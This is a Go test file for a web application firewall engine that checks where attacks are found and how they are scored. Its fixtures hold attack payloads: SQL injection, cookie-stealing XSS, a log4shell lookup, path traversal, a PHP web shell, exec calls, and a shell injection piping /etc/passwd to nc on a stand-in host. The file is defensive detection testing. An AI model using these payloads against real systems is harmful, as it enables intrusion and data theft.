package waf_test

import (
	"context"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/merlon-security/merlon/internal/event"
	"github.com/merlon-security/merlon/internal/verdict"
	"github.com/merlon-security/merlon/policy/rules"
	"github.com/merlon-security/merlon/policy/waf"
)

const (
	sqli = "1' or '1'='1' union select user,password from users--"
	xss  = "<script>alert(document.cookie)</script>"
)

var (
	screened = sync.OnceValues(func() (*waf.Engine, error) {
		return waf.New(waf.Options{Rules: rules.Options{Paranoia: 1, Threshold: 5}})
	})
	stock = sync.OnceValues(func() (*waf.Engine, error) {
		return waf.New(waf.Options{Rules: rules.Options{Set: rules.CRSOnly, Paranoia: 1, Threshold: 5}})
	})
)

func build(t *testing.T, f func() (*waf.Engine, error)) *waf.Engine {
	t.Helper()
	e, err := f()
	if err != nil {
		t.Fatal(err)
	}
	return e
}

func decode(t testing.TB, v any) *event.Event {
	t.Helper()
	raw, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return event.Decode(raw, nil, event.DefaultLimits())
}

type object = map[string]any

// request is a function URL's event with members replaced.
func request(members object) object {
	e := object{
		"rawPath": "/", "requestContext": object{"http": object{"method": "POST", "protocol": "HTTP/1.1"}, "domainName": "x.lambda-url.eu-west-1.on.aws"},
		"headers": object{"host": "h.example", "user-agent": "Mozilla/5.0", "accept": "*/*"},
	}
	for k, v := range members {
		e[k] = v
	}
	return e
}

func headers(name, value string) object {
	return request(object{"headers": object{"host": "h.example", "user-agent": "Mozilla/5.0", "accept": "*/*", name: value}})
}

func TestAttacksAreFoundWhereTheyStand(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name  string
		event any
		rule  int
		place verdict.Place
		path  string
	}{
		{"SQL in the query", request(object{"rawQueryString": "a=1&q=1%27%20or%20%271%27%3D%271%27%20union%20select%20user%20from%20users--"}), 9100808, verdict.PlaceQuery, "rawQueryString.q"},
		{"SQL in a form", request(object{"body": "a=1&q=" + sqli}), 9100808, verdict.PlaceBody, "body.q"},
		{"SQL in JSON", request(object{"body": `{"a":[1,{"q":"` + sqli + `"}]}`}), 9100808, verdict.PlaceBody, "body.a[1].q"},
		{"script in text", request(object{"body": "one\n" + xss}), 941110, verdict.PlaceBody, "body"},
		{"script in a cookie", request(object{"cookies": []string{"a=1", "s=" + xss}}), 941110, verdict.PlaceCookie, "cookies[1].s"},
		{"script in a header", headers("referer", "https://a/?"+xss), 941110, verdict.PlaceHeader, "headers.referer"},
		{"log4shell in a header", headers("x-api-version", "${jndi:ldap://198.51.100.1/a}"), 944150, verdict.PlaceHeader, "headers.x-api-version"},
		{"scanner", headers("user-agent", "sqlmap/1.8"), 913100, verdict.PlaceHeader, "headers.user-agent"},
		{"traversal in the path", request(object{"rawPath": "/a/../../../etc/passwd"}), 930100, verdict.PlaceTarget, "request_uri_raw"},
		{"file in an argument", request(object{"body": `{"f":"../../../../etc/passwd"}`}), 9100208, verdict.PlaceBody, "body.f"},
		{"shell in an argument", object{"cmd": "x; cat /etc/passwd | nc 198.51.100.1 4444"}, 9100402, verdict.PlaceArgument, "cmd"},
		{"PHP in an argument", object{"c": "<?php system($_GET['x']); ?>"}, 9100550, verdict.PlaceArgument, "c"},
		{"Node in an argument", object{"t": "require('child_process').exec('id')"}, 9100501, verdict.PlaceArgument, "t"},
		{"Java in an argument", object{"c": "java.lang.Runtime.getRuntime().exec('id')"}, 944100, verdict.PlaceArgument, "c"},
		{"script in a context header", nil, 941110, verdict.PlaceContext, `["context:Client-Context"].custom.x`},
		{"second path", request(object{"path": "/x?" + xss}), 941110, verdict.PlacePath, "path"},
		{"SQL in a record", object{"Records": []any{object{"eventSource": "aws:sqs", "body": "fine"}, object{"body": object{"q": sqli}}}}, 9100808, verdict.PlaceArgument, "Records[1].body.q"},
	}
	e := build(t, screened)
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			ev := decode(t, tt.event)
			if tt.place == verdict.PlaceContext {
				ev = event.Decode([]byte(`{}`), map[string][]string{"Lambda-Runtime-Client-Context": {`{"custom":{"x":"` + xss + `"}}`}}, event.DefaultLimits())
			}
			res, err := e.Inspect(context.Background(), ev)
			if err != nil {
				t.Fatal(err)
			}
			at := func(f verdict.Finding) bool {
				return f.RuleID == tt.rule && f.Place == tt.place && f.Path.String() == tt.path
			}
			if !slices.ContainsFunc(res.Findings, at) {
				t.Errorf("no finding of %d at %s %s:\n%s", tt.rule, tt.place, tt.path, list(res.Findings))
			}
			for _, f := range res.Findings {
				if f.Message == "" || f.Operator == "" || strings.HasPrefix(f.Operator, "merlon") || f.Severity == "" || f.Score == 0 || strings.Contains(f.Message, "%{") {
					t.Errorf("incomplete finding %+v", f)
				}
			}
		})
	}
}

func list(fs []verdict.Finding) string {
	var b strings.Builder
	for _, f := range fs {
		fmt.Fprintf(&b, "  %d %s %s record %d, ambiguous %t, +%d\n", f.RuleID, f.Place, f.Path, f.Record, f.Ambiguous, f.Score)
	}
	return b.String()
}

func TestBenignEventsHaveNoFinding(t *testing.T) {
	t.Parallel()
	e := build(t, screened)
	for name, v := range map[string]any{
		"order":     request(object{"body": `{"user":{"profile":{"name":"Sean O'Neill"}},"items":[{"sku":"A-1","qty":2,"price":1.5}],"note":"ring twice; please"}`}),
		"form":      request(object{"body": "name=Ann+Miller&mail=ann%40example.com"}),
		"query":     request(object{"rawQueryString": "page=2&sort=-created&q=caf%C3%A9"}),
		"direct":    object{"orderId": 17, "tags": []string{"a", "b"}, "when": "2026-10-01T12:00:00Z", "nothing": nil},
		"message":   object{"Records": []any{object{"eventSource": "aws:sqs", "body": `{"text":"select a table and drop us a line"}`}}},
		"no JSON":   "plain words",
		"no header": object{"requestContext": object{"http": object{"method": "GET"}}, "rawPath": "/", "headers": object{"user-agent": "x", "accept": "*/*"}},
	} {
		res, err := e.Inspect(context.Background(), decode(t, v))
		if err != nil || len(res.Findings) > 0 || slices.Max(res.Scores) > 0 || len(res.Limits) > 0 {
			t.Errorf("%s: %v, %+v", name, err, res)
		}
	}
}

// An attack behind any number of leaves is found: nothing stops looking.
func TestAttackBehindManyLeaves(t *testing.T) {
	t.Parallel()
	e := build(t, screened)
	for _, n := range []int{199, 200, 201, 1000, 2500} {
		fill := make([]int, n)
		res, err := e.Inspect(context.Background(), decode(t, object{"a": fill, "z": sqli}))
		if err != nil || res.Scores[0] < 5 || !slices.ContainsFunc(res.Findings, func(f verdict.Finding) bool { return f.Path.String() == "z" }) {
			t.Errorf("behind %d leaves: %v, scores %v\n%s", n, err, res.Scores, list(res.Findings))
		}
	}
	query := strings.Repeat("a=1&", 1500) + "z=%3Cscript%3Ealert(1)%3C%2Fscript%3E"
	res, err := e.Inspect(context.Background(), decode(t, request(object{"rawQueryString": query})))
	if err != nil || res.Scores[0] < 5 {
		t.Errorf("behind 1500 parameters: %v, scores %v", err, res.Scores)
	}
}

func TestScoresOfARecordAddUpAndRecordsDoNotMix(t *testing.T) {
	t.Parallel()
	e := build(t, screened)
	one, err := e.Inspect(context.Background(), decode(t, object{"z": sqli}))
	if err != nil {
		t.Fatal(err)
	}
	fill := make([]int, 250)
	batch := object{"Records": []any{
		object{"eventSource": "aws:sqs", "a": sqli, "b": fill, "c": sqli}, object{"a": "fine"}, object{"a": sqli},
	}}
	res, err := e.Inspect(context.Background(), decode(t, batch))
	if err != nil {
		t.Fatal(err)
	}
	want := []int{2 * one.Scores[0], 0, one.Scores[0]}
	if !slices.Equal(res.Scores, want) {
		t.Errorf("scores %v, want %v", res.Scores, want)
	}
	for _, f := range res.Findings {
		if want := fmt.Sprintf("Records[%d].", f.Record); !strings.HasPrefix(f.Path.String(), want) {
			t.Errorf("finding at %s is of record %d", f.Path, f.Record)
		}
	}
}

// The score is the transaction's, and the findings account for it.
func TestFindingsAccountForTheScore(t *testing.T) {
	t.Parallel()
	e := build(t, screened)
	for name, v := range map[string]any{
		"several values": object{"a": sqli, "b": xss, "c": []string{sqli, xss}},
		"name and value": object{sqli: xss},
		"header chain":   headers("content-encoding", "exi"),
		"parameters":     request(object{"rawQueryString": "a=" + xss + "&a=" + xss}),
		"cookie":         request(object{"cookies": []string{"a=" + xss}}),
	} {
		res, err := e.Inspect(context.Background(), decode(t, v))
		if err != nil {
			t.Fatal(err)
		}
		sum := 0
		for _, f := range res.Findings {
			sum += f.Score
		}
		if sum < res.Scores[0] || name != "header chain" && sum != res.Scores[0] || sum == 0 {
			t.Errorf("%s: findings weigh %d, score %d\n%s", name, sum, res.Scores[0], list(res.Findings))
		}
	}
}

func TestLeavesOfOneName(t *testing.T) {
	t.Parallel()
	e := build(t, screened)
	res, err := e.Inspect(context.Background(), decode(t, object{"orders": []any{object{"comment": "fine"}, object{"comment": sqli}}, "customer": object{"comment": "also fine"}}))
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Findings) == 0 {
		t.Fatal("no finding")
	}
	for _, f := range res.Findings {
		if f.Path.String() != "orders[1].comment" || f.Ambiguous {
			t.Errorf("finding at %s, ambiguous %t, want orders[1].comment", f.Path, f.Ambiguous)
		}
	}
	// Two places with one value cannot be told apart: an exception for one of
	// them must not excuse the other.
	res, err = e.Inspect(context.Background(), decode(t, object{"a": object{"comment": sqli}, "b": object{"comment": sqli}}))
	if err != nil || len(res.Findings) == 0 {
		t.Fatal(err, res)
	}
	for _, f := range res.Findings {
		if !f.Ambiguous {
			t.Errorf("finding at %s is not ambiguous", f.Path)
		}
	}
}

func TestNamesOfOneArrayAreOnePlace(t *testing.T) {
	t.Parallel()
	e := build(t, screened)
	res, err := e.Inspect(context.Background(), decode(t, object{"x": object{xss: []int{1, 2, 3}}}))
	if err != nil || len(res.Findings) == 0 {
		t.Fatal(err, res)
	}
	for _, f := range res.Findings {
		if !f.IsName || f.Ambiguous || len(f.Path) != 2 {
			t.Errorf("finding on name %t, ambiguous %t, at %s", f.IsName, f.Ambiguous, f.Path)
		}
	}
}

func TestNoTimeIsALimit(t *testing.T) {
	t.Parallel()
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	res, err := build(t, screened).Inspect(ctx, decode(t, object{"z": sqli}))
	if err != nil || !slices.Equal(res.Limits, []string{"time"}) {
		t.Errorf("%v, limits %v, want time", err, res.Limits)
	}
}

func TestStockRules(t *testing.T) {
	t.Parallel()
	e := build(t, stock)
	res, err := e.Inspect(context.Background(), decode(t, request(object{"body": `{"q":"` + xss + `"}`, "rawQueryString": "q=" + xss,
		"headers": object{"host": "h", "user-agent": "x", "accept": "*/*", "content-type": "application/json", "content-length": "50"}})))
	if err != nil || res.Scores[0] < 10 {
		t.Errorf("attack: %v, scores %v", err, res.Scores)
	}
	res, err = e.Inspect(context.Background(), decode(t, object{"direct": xss}))
	if err != nil || res.Scores[0] != 0 {
		t.Errorf("an event that is no request: %v, scores %v", err, res.Scores)
	}
}

func TestConcurrentUse(t *testing.T) {
	t.Parallel()
	e := build(t, screened)
	var wg sync.WaitGroup
	for i := range 8 {
		wg.Go(func() {
			v, bad := any(object{"z": "fine"}), i%2 == 0
			if bad {
				v = object{"a": object{"z": sqli}, "b": object{"z": "fine"}}
			}
			raw, err := json.Marshal(v)
			if err != nil {
				t.Error(err)
				return
			}
			for range 3 {
				res, err := e.Inspect(context.Background(), event.Decode(raw, nil, event.DefaultLimits()))
				if err != nil || (res.Scores[0] > 0) != bad {
					t.Errorf("%v, scores %v, want an attack: %t", err, res.Scores, bad)
				}
			}
		})
	}
	wg.Wait()
}
